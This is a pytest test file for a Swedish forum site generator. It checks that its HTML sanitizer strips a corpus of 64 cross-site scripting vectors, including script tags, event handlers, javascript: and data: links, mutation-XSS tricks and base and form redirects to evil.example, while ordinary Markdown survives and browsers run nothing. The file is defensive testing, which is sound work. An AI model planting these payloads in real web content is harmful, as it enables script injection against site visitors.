"""Editor content is sanitized: a hostile HTML corpus built into a real site.

Every vector goes into a thread's question, a reply, an FAQ entry and a
static page of one site built in a temporary folder. The built HTML must
hold none of it (no event handlers, no script, frame, base, form, object,
embed or meta refresh in content, no ``javascript:``/``data:`` links), the
harmless formatting editors use must survive, ``torget check`` must warn
at the vector's line, and in Chromium no page may open a dialog or run a
vector's code (each sets a marker global or calls ``alert``).
"""

from __future__ import annotations

import logging
import re
import shutil
import textwrap
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from torget.build.outputguard import PAGE_PRINTS
from torget.content.forum import load_forum
from torget.importers.html_markdown import html_to_markdown
from torget.format.urls import metadata_url_problem, url_scheme
from torget.html.sanitize import clean, html_problems
from torget.format.parsing import parse_thread
from torget.model import Kind, Severity

from conftest import SAMPLE_CONTENT
from test_csp import serve_with_csp  # noqa: F401 - a fixture

#: Each vector sets ``window.__xss`` (or calls alert) if it ever runs.
VECTORS = [
    "<script>window.__xss=1</script>",
    '<img src="x" onerror="window.__xss=2">',
    "<IMG SRC=x OnErRoR=window.__xss=3>",
    '<svg onload="window.__xss=4"></svg>',
    "<svg><script>window.__xss=5</script></svg>",
    '<details open ontoggle="window.__xss=6"><summary>s</summary>x</details>',
    '<iframe src="javascript:window.top.__xss=7"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.__xss=8&lt;/script&gt;"></iframe>',
    '<a href="javascript:window.__xss=9">a9</a>',
    '<a href="JaVaScRiPt:window.__xss=10">a10</a>',
    '<a href="jav&#x09;ascript:window.__xss=11">a11</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=12">a12</a>',
    '<a href="  javascript:window.__xss=13">a13</a>',
    '<a href="javascript&colon;window.__xss=14">a14</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNSk8L3NjcmlwdD4=">a15</a>',
    '<a href="vbscript:msgbox(16)">a16</a>',
    "[m17](javascript:window.__xss=17)",
    "[m18](&#106;avascript:window.__xss=18)",
    "[m19](java%0ascript:window.__xss=19 'title')",
    "[m20][r20]\n\n[r20]: javascript:window.__xss=20",
    "<javascript:window.__xss=21>",
    '![i22](x" onerror="window.__xss=22)',
    "![i23](javascript:window.__xss=23)",
    'Stycke 24\n{: onclick="window.__xss=24" style="color:red" }',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="q"><button>b26</button></form>',
    '<button formaction="javascript:window.__xss=27">b27</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=28">',
    '<object data="javascript:window.__xss=29"></object>',
    '<embed src="data:text/html,&lt;script&gt;alert(30)&lt;/script&gt;">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=31></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=32>"></noscript>',
    "<svg><style><img src=x onerror=window.__xss=33></style></svg>",
    '<math href="javascript:window.__xss=34"><mi>m34</mi></math>',
    '<svg><a xlink:href="javascript:window.__xss=35"><text x="0" y="20">s35</text></a></svg>',
    '<svg><animate onbegin="window.__xss=36" attributeName="x" dur="1s"/></svg>',
    '<svg><set attributeName="onmouseover" to="window.__xss=37"/></svg>',
    '<div style="background:url(javascript:window.__xss=38)">d38</div>',
    '<link rel="stylesheet" href="https://evil.example/x39.css">',
    "<template><img src=x onerror=window.__xss=40></template>",
    '<video><source onerror="window.__xss=41"></video>',
    '<audio src="x" onerror="window.__xss=42"></audio>',
    '<input autofocus onfocus="window.__xss=43">',
    '<select autofocus onfocus="window.__xss=44"><option>o</option></select>',
    '<textarea autofocus onfocus="window.__xss=45"></textarea>',
    '<marquee onstart="window.__xss=46">m46</marquee>',
    '<a href="#" onclick="window.__xss=47">a47</a>',
    '<img name="getElementById" id="search-input" src="/x48.png">',
    "<!-- x --><img src=x onerror=window.__xss=49><!-- -->",
    "<xmp><img src=x onerror=window.__xss=50></xmp>",
    '<a href="https://example.org/" target="_blank" rel="opener">a51</a>',
    '<img srcset="javascript:window.__xss=52 1x" src="/x52.png" alt="i52">',
    '<object data="data:text/html,&lt;script&gt;alert(53)&lt;/script&gt;"></object>',
    "<img src=x:alert(54) onerror=eval(src) alt=0>",
    '[m55](https://example.org/ "t\\" onmouseover=\\"window.__xss=55")',
    "<scr<script>ipt>window.__xss=56</scr</script>ipt>",
    "<a href=\"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+window.__xss=57//'>a57</a>",
    '<frameset onload="window.__xss=58"><frame src="javascript:window.__xss=58"></frameset>',
    '<a href="java\nscript:window.__xss=59">a59</a>',
    '<form><button formaction="javascript:window.__xss=60">b60</button></form>',
    '<svg><foreignObject><img src=x onerror="window.__xss=61"></foreignObject></svg>',
    '<table background="javascript:window.__xss=62"><tr><td>t62</td></tr></table>',
    "<style>@import 'https://evil.example/x63.css'; body{background:red}</style>",
    '<p>Text <span style="position:fixed;top:0;left:0;width:100%;height:100%">s64</span></p>',
]

#: What editors write and must keep, with a check of the output each.
HARMLESS = textwrap.dedent(
    """\
    Vanlig text med **fetstil**, *kursiv* och `<script>kod</script>` i en kodsnutt.

    [Webbplats](https://www.ekbacka.se/), [mejl](mailto:kontakt@ekbacka.se),
    [telefon](tel:+46123456700) och [relativ](/faq/) länk.

    ## Rubrik två

    - punkt ett
    - punkt två

    1. första
    2. andra

    | Vänster | Höger |
    |:--------|------:|
    | a       | 1     |

    > Ett citat.

    ```python
    print("hej")
    ```

    ![Karta över centrum](/images/karta.png "Centrum")

    <details><summary>Läs mer</summary>Mer text.</details>

    En fotnot[^1] och <abbr title="Ekbacka kommun">EK</abbr>.

    [^1]: Fotnotens text.
    """
)


#: A 1×1 white PNG.
_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108020000009077"
    "53de0000000c4944415408d763f8ffff3f0005fe02fea7356a810000000049454e44ae426082"
)


def _blocks(vectors: list[str]) -> str:
    return "\n\n".join(f"Vektor {n}:\n\n{v}" for n, v in enumerate(vectors, start=1)) + "\n"


def _thread(title: str, slug: str, body: str, reply: str, kind: Kind = Kind.THREAD) -> str:
    head = [f"Title: {title}", "Date: 2026-01-05 10:00", "Category: E-tjänster och inloggning", "Author: Testare", f"Slug: {slug}"]
    if kind is Kind.THREAD:
        head.insert(2, "Type: question")
    return (
        "\n".join(head) + "\n\n" + body + "\n--- reply ---\nAuthor: Handläggare\nDate: 2026-01-06 10:00\n"
        "Staff: yes\n\n" + reply
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """``(content folder, built site)`` with every vector in every kind of content."""
    from conftest import build_into

    root = tmp_path_factory.mktemp("hostile")
    content = root / "content"
    for folder in ("posts", "faq", "pages"):
        (content / folder).mkdir(parents=True)
    (content / "images").mkdir()
    (content / "images" / "karta.png").write_bytes(_PNG)
    half = len(VECTORS) // 2
    (content / "posts" / "fientlig-fraga.md").write_text(
        _thread("Fientlig fråga", "fientlig-fraga", _blocks(VECTORS) + "\n" + HARMLESS, _blocks(VECTORS) + "\n" + HARMLESS),
        encoding="utf-8")
    (content / "posts" / "fientlig-fraga-tva.md").write_text(
        _thread("Fientlig fråga två", "fientlig-fraga-tva", _blocks(VECTORS[:half]), _blocks(VECTORS[half:])),
        encoding="utf-8")
    (content / "faq" / "fientlig-faq.md").write_text(
        _thread("Fientlig vanlig fråga", "fientlig-faq", _blocks(VECTORS) + "\n" + HARMLESS, _blocks(VECTORS), Kind.FAQ),
        encoding="utf-8")
    for name in ("om-forumet", "regler"):
        (content / "pages" / f"{name}.md").write_text(
            f"Title: {name}\nSlug: {name}\nSummary: <img src=\"x\" onerror=\"window.__xss=99\"> Sammanfattning\n\n"
            + _blocks(VECTORS) + "\n" + HARMLESS, encoding="utf-8")
    site = build_into(root / "output", content)
    assert site.result.ok, (site.result.problems, site.result.log_errors)
    return content, site


#: Static pages made of the corpus (other pages' ids and SVG are the theme's).
HOSTILE_PAGES = ("om-forumet/", "regler/")
BAD_SCHEMES = {"javascript", "vbscript", "data"}


def _pages(site) -> list[Path]:
    pages = site.files(".html")
    assert len(pages) >= 10, pages
    return pages


def test_the_corpus_is_big_enough():
    assert len(VECTORS) >= 40


def test_no_vector_survives_in_any_built_page(hostile):
    _, site = hostile
    surviving = _surviving(site)
    assert surviving == [], "\n".join(surviving)


def _surviving(site) -> list[str]:
    """Every trace of a vector in the built pages of ``site``."""
    surviving = []
    for path in _pages(site):
        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        where = str(path.relative_to(site.root))
        for tag in soup.find_all(True):
            for name, value in tag.attrs.items():
                if name.lower().startswith("on"):
                    surviving.append(f"{where}: {name} on <{tag.name}>")
                if name.lower() in ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "background", "srcset"):
                    text = " ".join(value) if isinstance(value, list) else value
                    if name.lower() in ("srcdoc", "formaction", "srcset", "background", "xlink:href") or url_scheme(text) in BAD_SCHEMES:
                        surviving.append(f"{where}: {name}={text!r} on <{tag.name}>")
            if tag.name == "meta" and (tag.get("http-equiv") or "").lower() == "refresh":
                surviving.append(f"{where}: meta refresh")
            if tag.name == "base":
                surviving.append(f"{where}: <base>")
            if tag.name == "script" and not (tag.get("src", "").startswith("/theme/") or tag.get("type") == "application/ld+json"):
                surviving.append(f"{where}: inline <script>")
            if tag.name == "script" and tag.get("type") == "application/ld+json" and "<" in tag.string:
                surviving.append(f"{where}: '<' in JSON-LD")
            if tag.name == "link" and "evil.example" in tag.get("href", ""):
                surviving.append(f"{where}: foreign <link>")
            if tag.get("style") is not None:
                surviving.append(f"{where}: style= on <{tag.name}>")
        areas = ".thread-body, .reply-body, .faq-answer" + (", article.page" if where.startswith(HOSTILE_PAGES) else "")
        for area in soup.select(areas):
            for tag in area.find_all(["script", "iframe", "frame", "frameset", "base", "form", "input", "button",
                                      "select", "textarea", "object", "embed", "meta", "link", "style", "svg",
                                      "math", "template", "video", "audio", "source", "marquee", "noscript", "xmp"]):
                surviving.append(f"{where}: <{tag.name}> in content")
            for tag in area.find_all(attrs={"id": True}):
                if not re.match(r"^(svar-\d+-)?fn(ref)?:", tag["id"]) and tag.name not in ("h1",):
                    surviving.append(f"{where}: id={tag['id']!r} in content")
            for tag in area.find_all(attrs={"name": True}):
                surviving.append(f"{where}: name= in content")
    return surviving


def test_rendered_ahead_and_cached_builds_are_sanitized_and_identical(tmp_path, monkeypatch, caplog):
    """Threads rendered ahead in forked processes, and a rebuild that takes
    their HTML from Pelican's content cache, give the same sanitized bytes
    as a build that renders as it reads."""
    import torget_threads.ahead
    from conftest import build_into

    content = tmp_path / "content"
    (content / "posts").mkdir(parents=True)
    for n in range(6):
        (content / "posts" / f"fientlig-{n}.md").write_text(
            _thread(f"Fientlig {n}", f"fientlig-{n}", _blocks(VECTORS), _blocks(VECTORS[::-1])), encoding="utf-8")
    monkeypatch.setattr(torget_threads.ahead, "RENDER_AHEAD_MIN", 1)
    serial = build_into(tmp_path / "serial", content, TORGET_RENDER_PROCESSES=1)
    with caplog.at_level(logging.INFO, logger="torget_threads"):
        forked = build_into(tmp_path / "forked", content, TORGET_RENDER_PROCESSES=2)
    assert any(r.getMessage().startswith("rendered 6 threads ahead in 2 processes") for r in caplog.records)
    caplog.clear()
    assert serial.result.ok and forked.result.ok
    assert _surviving(forked) == []
    first = _tree(forked.root)
    assert first == _tree(serial.root)
    assert (tmp_path / ".cache-forked" / "torget-cache-key").is_file()
    (forked.root / PAGE_PRINTS).unlink()  # no reused pages: every page written again
    with caplog.at_level(logging.INFO, logger="torget_threads"):
        again = build_into(tmp_path / "forked", content, TORGET_RENDER_PROCESSES=2)
    assert not [r for r in caplog.records if "ahead" in r.getMessage()]  # all HTML from Pelican's cache
    assert again.result.ok and {k: v for k, v in _tree(again.root).items() if k != PAGE_PRINTS} == {
        k: v for k, v in first.items() if k != PAGE_PRINTS}


def test_the_build_fingerprint_names_the_sanitizer(monkeypatch):
    """Pelican's cache holds sanitized HTML: another allow-list or nh3
    release must not reuse it."""
    from torget.html import sanitize
    from torget.build.run import load_settings
    from torget.build.fingerprint import build_print
    from conftest import CONFIG

    settings = load_settings(CONFIG)
    before = build_print(settings)
    monkeypatch.setattr(sanitize, "VERSION", sanitize.VERSION.replace("nh3 ", "nh3 0.0.0-"))
    assert build_print(settings) != before


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def _content_html(site, path: str, selector: str) -> str:
    areas = site.html(path).select(selector)
    assert areas, f"{selector} not on {path}"
    return "".join(str(a) for a in areas)


@pytest.mark.parametrize("path, selector", [
    ("posts/fientlig-fraga/", ".thread-body"),
    ("posts/fientlig-fraga/", ".reply-body"),
    ("faq/fientlig-faq/", ".thread-body, .faq-answer, main"),
    ("faq/", ".faq-answer"),
    ("om-forumet/", "main"),
])
def test_harmless_formatting_survives(hostile, path, selector):
    _, site = hostile
    soup = BeautifulSoup(_content_html(site, path, selector), "html.parser")
    assert soup.find("strong", string="fetstil") and soup.find("em", string="kursiv")
    assert soup.find("code", string="<script>kod</script>")
    hrefs = {a.get("href") for a in soup.find_all("a")}
    assert {"https://www.ekbacka.se/", "mailto:kontakt@ekbacka.se", "tel:+46123456700"} <= hrefs
    assert any(h and h.endswith("/faq/") for h in hrefs)
    # one level lower on the FAQ list, under its category headings
    assert soup.find("h3" if path == "faq/" else "h2", string="Rubrik två")
    assert soup.find("li", string="punkt ett").parent.name == "ul"
    assert soup.find("li", string="första").parent.name == "ol"
    table = soup.find("th", string="Vänster").find_parent("table")
    assert [c.get("align") for c in table.find_all(["th", "td"])] == ["left", "right"] * 2
    assert soup.find("blockquote").find("p", string="Ett citat.")
    assert soup.find("code", class_="language-python")
    image = soup.find("img", alt="Karta över centrum")
    assert image and image["src"].endswith("/images/karta.png") and image.get("title") == "Centrum"
    assert soup.find("summary", string="Läs mer").parent.name == "details"
    assert soup.find("abbr", title="Ekbacka kommun")
    ref = soup.find("sup", id=re.compile(r"fnref:1$"))
    note = soup.find("li", id=re.compile(r"fn:1$"))
    assert ref and note and ref.a["href"] == "#" + note["id"] and "Fotnotens text" in note.get_text()


def test_reply_footnotes_keep_their_own_ids(hostile):
    _, site = hostile
    reply = site.html("posts/fientlig-fraga/").select_one(".reply-body")
    assert reply.find("li", id="svar-1-fn:1") and reply.find("a", href="#svar-1-fnref:1")


def test_vector_text_stays_as_text_where_tags_are_removed(hostile):
    """Tags outside the allow-list go, their text stays (an editor sees what was lost)."""
    _, site = hostile
    text = site.html("posts/fientlig-fraga/").select_one(".thread-body").get_text()
    assert "a9" in text and "m46" in text and "Vektor 64" in text


def test_pelicans_html_reader_is_sanitized_too(tmp_path):
    """torget check refuses .html content; a plain ``pelican`` run still
    reads it, through the sanitizing reader."""
    from pelican.settings import DEFAULT_CONFIG
    from torget_threads import SanitizedHTMLReader

    page = tmp_path / "sida.html"
    page.write_text("<html><head><title>T</title><meta name=\"summary\" content=\"<img src=x onerror=alert(1)>S\">"
                    "</head><body>" + "".join(f"<p>{v}</p>" for v in VECTORS if "\n" not in v)
                    + "<p><strong>Kvar</strong></p></body></html>", encoding="utf-8")
    content, metadata = SanitizedHTMLReader(dict(DEFAULT_CONFIG)).read(str(page))
    soup = BeautifulSoup(content, "html.parser")
    assert soup.find("strong", string="Kvar")
    assert not soup.find_all(["script", "iframe", "object", "embed", "base", "meta", "form", "svg", "math", "style"])
    assert not [a for t in soup.find_all(True) for a in t.attrs if a.startswith("on") or a == "style"]
    assert "onerror" not in metadata["summary"] and metadata["summary"].endswith("S")


def _removed(markdown: str) -> set:
    """Tags and attributes of the rendered Markdown that clean() drops
    (read apart from torget.html.sanitize's own check, with BeautifulSoup)."""
    from torget.html.markdown_config import DEFAULT_MARKDOWN
    import markdown as markdown_lib

    def parts(html: str) -> list:
        soup = BeautifulSoup(html, "html.parser")
        return [(t.name, *sorted((k, str(v)) for k, v in t.attrs.items())) for t in soup.find_all(True)]

    before = markdown_lib.Markdown(**DEFAULT_MARKDOWN).convert(markdown)
    after = parts(clean(before))
    return {p for p in parts(before) if p not in after}


def test_check_warns_at_every_vector_line(hostile):
    content, _ = hostile
    forum = load_forum(content)
    assert not forum.errors
    lines = (content / "posts" / "fientlig-fraga.md").read_text(encoding="utf-8").split("\n")
    warned = {p.line for p in forum.warnings if p.path.endswith("fientlig-fraga.md")}
    checked, missing = 0, []
    for n, vector in enumerate(VECTORS, start=1):
        if not _removed(vector):
            continue  # shown as text, or nothing to remove (e.g. a quoted title)
        starts = [i for i, line in enumerate(lines, start=1) if line == f"Vektor {n}:"]
        assert len(starts) == 2, n  # in the question and in the reply
        for start in starts:
            checked += 1
            if not warned & set(range(start + 2, start + 3 + vector.count("\n"))):
                missing.append(f"vector {n} at line {start + 2}: {vector}")
    assert missing == [], "\n".join(missing)
    assert checked >= 2 * 40
    harmless_at = [n for n, line in enumerate(lines, start=1) if line.startswith("Vanlig text med")]
    assert len(harmless_at) == 2
    for start in harmless_at:
        assert not warned & set(range(start, start + HARMLESS.count("\n"))), sorted(warned)


def test_check_warns_about_pages_and_their_summary(hostile):
    content, _ = hostile
    warnings = [p for p in load_forum(content).warnings if p.path.endswith("regler.md")]
    lines = (content / "pages" / "regler.md").read_text(encoding="utf-8").split("\n")
    assert any(p.line == 3 and "onerror" in p.message for p in warnings)  # Summary: <img onerror>
    script = lines.index(VECTORS[0]) + 1
    assert any(p.line == script and "<script>" in p.message for p in warnings)
    assert all(p.path == "content/pages/regler.md" or p.path.endswith("/pages/regler.md") for p in warnings)


def test_the_sample_forum_has_nothing_to_remove():
    assert [str(p) for p in load_forum(SAMPLE_CONTENT).problems] == []


def test_torget_check_prints_them_and_strict_fails(tmp_path):
    from click.testing import CliRunner

    from conftest import CONFIG
    from torget_cli import main

    content = tmp_path / "content"
    shutil.copytree(SAMPLE_CONTENT / "pages", content / "pages")  # the about and policy pages the settings name
    (content / "posts").mkdir()
    (content / "posts" / "html.md").write_text(
        _thread("Med HTML", "med-html", 'Hej <span style="color:red" onclick="alert(1)">röd</span>.\n', "[x](javascript:alert(2))\n"),
        encoding="utf-8")
    plain = CliRunner().invoke(main, ["check", "--config", str(CONFIG), "--content", str(content)])
    strict = CliRunner().invoke(main, ["check", "--config", str(CONFIG), "--content", str(content), "--strict"])
    assert plain.exit_code == 0 and strict.exit_code == 1, (plain.output, strict.output)
    lines = [line.split("html.md:", 1)[1] for line in plain.output.splitlines() if "html.md:" in line]
    assert lines == [
        # in the sample forum's language
        "8: varning: händelsehanteraren onclick på <span> tas bort vid publiceringen (sidorna kör inga skript från inlägg)",
        "8: varning: stilen på <span> tas bort vid publiceringen (sidorna tillåter inga inbäddade stilar)",
        "15: varning: länkmålet 'javascript:alert(2)' tas bort vid publiceringen (länkar får gå till http, https, mailto, tel eller webbplatsen)",
    ]


def test_torget_check_warns_with_the_sites_markdown_setting(tmp_path):
    """The warnings follow the settings file's MARKDOWN, not the sample's:
    codehilite's classes and toc's heading ids are removed, and without
    attr_list an attribute list is text. The settings share one parse
    cache, which must not hand one setting's warnings to the other."""
    from click.testing import CliRunner

    from conftest import CONFIG, ROOT
    from torget_cli import main

    content = tmp_path / "content"
    shutil.copytree(SAMPLE_CONTENT / "pages", content / "pages")
    (content / "posts").mkdir()
    code = "Kod:\n\n```python\nif a < b:\n    pass\n```\n\nLäs noga.\n{: #viktigt }\n"
    heading = "## Så gör du\n\nKlicka på knappen.\n"
    (content / "posts" / "rubrik.md").write_text(_thread("Med rubrik", "med-rubrik", heading, "Tack.\n"), encoding="utf-8")
    (content / "posts" / "kod.md").write_text(_thread("Med kod", "med-kod", code, "Tack.\n"), encoding="utf-8")
    sample = CONFIG.read_text(encoding="utf-8").replace('THEME = "theme"', f'THEME = "{ROOT / "theme"}"')
    settings = {
        "sample": sample,
        "codehilite": sample + ("\nMARKDOWN = {'extension_configs': {'markdown.extensions.extra': {}, "
                                "'markdown.extensions.codehilite': {}}, 'output_format': 'html5'}\n"),
        "plain": sample + "\nMARKDOWN = {'extension_configs': {'markdown.extensions.sane_lists': {}}, 'output_format': 'html5'}\n",
        "toc": sample + "\nMARKDOWN = {'extensions': ['markdown.extensions.toc'], 'output_format': 'html5'}\n",
    }

    def warnings(name: str, file: str = "kod.md") -> list[str]:
        config = tmp_path / f"{name}.py"
        config.write_text(settings[name], encoding="utf-8")
        result = CliRunner().invoke(main, ["check", "--config", str(config), "--content", str(content)])
        assert result.exit_code == 0, result.output
        return [line.split(f"{file}:", 1)[1] for line in result.output.splitlines() if f"{file}:" in line]

    attribute_list = "16: varning: attributet id på <p> tas bort vid publiceringen"
    assert warnings("sample") == [attribute_list]
    assert warnings("plain") == []
    highlighted = warnings("codehilite")
    assert attribute_list in highlighted
    assert any("class='codehilite' på <div>" in line for line in highlighted), highlighted
    assert warnings("sample") == [attribute_list]
    # toc gives headings ids, which are removed, in a text without HTML
    assert warnings("sample", "rubrik.md") == []
    assert [line for line in warnings("toc", "rubrik.md") if "<h2>" in line], warnings("toc", "rubrik.md")


def test_check_warnings_name_what_is_removed():
    text = 'Hej\n\n<img src="x" onerror="alert(1)">\n\n[a](javascript:alert(2))\n\n<script>x</script>\n'
    found = [str(p) for p in html_problems("content/posts/x.md", text, 7)]
    assert found == [
        "content/posts/x.md:9: warning: event handler onerror on <img> is removed when published (pages run no scripts from posts)",
        "content/posts/x.md:11: warning: link target 'javascript:alert(2)' is removed when published (links may go to http, https, mailto, tel or the site)",
        "content/posts/x.md:13: warning: HTML <script> is removed with its content when published",
    ]


def test_check_is_quiet_for_plain_markdown():
    assert html_problems("x.md", HARMLESS, 1) == []
    assert html_problems("x.md", "Se [sidan](https://www.ekbacka.se/?a=1&b=2) och [här](/faq/).\n", 1) == []


def test_build_prints_the_warnings(hostile, capsys):
    content, site = hostile
    assert any("fientlig-faq.md" in str(p) and "onerror" in p.message for p in site.result.problems)


@pytest.mark.parametrize("value, severity", [
    ("/images/staff/sara.png", None),
    ("https://cdn.example/sara.png", None),  # valid; the CSP needs the host (docs/deploying.md)
    ("//cdn.example/sara.png", None),
    ("javascript:alert(1)", Severity.ERROR),
    (" JaVaScRiPt:alert(1)", Severity.ERROR),
    ("data:image/svg+xml,<svg onload=alert(1)>", Severity.ERROR),
    ('/x.png" onerror="alert(1)', Severity.ERROR),
    ("images/sara.png", Severity.ERROR),
    ("/bild med mellanslag.png", Severity.ERROR),
])
def test_avatar_urls_are_validated(value, severity):
    found = metadata_url_problem("Avatar", value)
    assert (found[0] if found else None) is severity


def test_a_bad_avatar_fails_the_check_with_its_line():
    text = _thread("T", "t", "Fråga.\n", "Svar.\n").replace("Staff: yes\n", "Staff: yes\nAvatar: javascript:alert(1)\n")
    thread, problems = parse_thread("content/posts/t.md", text, Kind.THREAD)
    assert thread is None
    line = text.split("\n").index("Avatar: javascript:alert(1)") + 1
    assert [str(p) for p in problems if p.is_error] == [
        f"content/posts/t.md:{line}: Avatar 'javascript:alert(1)' has the scheme javascript: "
        "(expected a site path such as /images/staff/sara.png or an https:// address)"
    ]


def test_importers_use_the_same_allow_list():
    """Imports keep their behaviour: unknown tags unwrapped, unsafe parts gone."""
    markdown = html_to_markdown('<details><summary>S</summary><p>Inne <b onclick="x">fet</b></p></details>'
                                '<p><a href="javascript:alert(1)">j</a> <a href="tel:+4612">t</a></p><svg><text>bort</text></svg>')
    assert markdown == "S\n\nInne **fet**\n\nj [t](tel:+4612)\n"


def test_clean_keeps_footnote_ids_only():
    assert clean('<li id="fn:1">a</li><li id="svar-2-fnref:1">b</li><li id="search">c</li>') == (
        '<li id="fn:1">a</li><li id="svar-2-fnref:1">b</li><li>c</li>'
    )


# --- in Chromium --------------------------------------------------------------

#: Give every handler a vector might have left its event: open every
#: <details>, hover, focus and click every element of the page (links only
#: when they lead nowhere), then let queued events run. The search page's
#: own filters (.search-filters) change its address by design: not clicked.
PROVOKE = """async () => {
  for (const details of document.querySelectorAll("details")) details.open = !details.open;
  for (const element of document.querySelectorAll("body *")) {
    for (const type of ["mouseover", "mouseenter", "focus", "focusin", "animationstart"]) {
      element.dispatchEvent(new Event(type, {bubbles: true}));
    }
    const href = element.getAttribute("href");
    if (typeof element.click === "function" && !(element.closest("a[href]") && href !== "#") && !element.closest("form, summary, .search-filters")) element.click();
  }
  await new Promise(done => requestAnimationFrame(() => setTimeout(done, 0)));
}"""


@pytest.mark.browser
def test_no_page_runs_a_vector_in_chromium(hostile, serve, browser):
    from playwright.sync_api import Error as PlaywrightError

    _, site = hostile
    base = serve(site.root)
    context = browser.new_context()
    dialogs: list[str] = []
    ran = []
    opened = 0
    for path in _pages(site):
        url = base + "/" + str(path.relative_to(site.root)).removesuffix("index.html")
        page = context.new_page()  # one each: a vector that navigates cannot spill over
        page.on("dialog", lambda dialog, url=url: (dialogs.append(f"{url}: dialog {dialog.message!r}"), dialog.dismiss()))
        opened += 1
        try:
            page.goto(url, wait_until="load")
            page.evaluate(PROVOKE)
            marker = page.evaluate("() => [window.__xss, window.top.__xss]")
        except PlaywrightError as error:  # a vector navigated away (meta refresh, base, form …)
            ran.append(f"{url}: {error.message.splitlines()[0]}")
            marker = []
        if any(m is not None for m in marker):
            ran.append(f"{url}: {marker}")
        elif marker and page.url.split("#")[0] != url:
            ran.append(f"{url}: navigated to {page.url}")
        page.close()
    context.close()
    assert opened == len(_pages(site)) and opened >= 10
    assert ran == [] and dialogs == [], "\n".join(ran + dialogs)


@pytest.mark.browser
def test_hostile_pages_violate_no_content_security_policy(hostile, serve_with_csp, browser):
    """With the policy on, the corpus' pages still cause no violation: nothing
    inline survived for the policy to block. (The test above runs without the
    policy, so that the sanitizer alone is what keeps the vectors from running.)"""
    from test_csp import Watch

    _, site = hostile
    base = serve_with_csp(site.root)
    found = []
    for path in _pages(site):
        if path.relative_to(site.root).parts[0] == "admin":
            continue  # the editor has its own policy: docs/deploying.md, tested in tests/test_cms.py
        url = base + "/" + str(path.relative_to(site.root)).removesuffix("index.html")
        watcher = Watch(browser)
        try:
            watcher.page.goto(url, wait_until="load")
            watcher.page.evaluate(PROVOKE)
            found += [f"{url}: {v}" for v in watcher.violations()]
        finally:
            watcher.close()
    assert found == [], "\n".join(found)
